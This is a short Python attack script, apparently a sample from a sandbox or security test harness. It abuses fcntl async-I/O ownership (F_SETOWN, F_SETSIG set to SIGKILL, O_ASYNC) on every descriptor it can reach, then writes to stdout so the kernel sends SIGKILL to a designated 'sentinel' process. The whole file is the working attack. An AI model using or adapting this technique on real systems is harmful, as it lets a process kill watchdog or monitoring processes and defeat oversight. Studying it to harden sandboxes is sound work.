"""Makes another process the owner of its own pipe, so that the kernel sends that one signals."""

import contextlib
import fcntl
import os
import struct

SET_OWNER, SET_SIGNAL, SET_OWNER_EX = 8, 10, 15


def attack(A):
    for descriptor in range(64):
        with contextlib.suppress(OSError):
            for command, value in (
                (SET_OWNER, TARGET["sentinel"]),
                (SET_OWNER_EX, struct.pack("<ii", 1, TARGET["sentinel"])),
                (SET_SIGNAL, 9),
                (fcntl.F_SETFL, os.O_ASYNC),
            ):
                with contextlib.suppress(OSError):
                    fcntl.fcntl(descriptor, command, value)
    print("this makes the pipe readable", flush=True)
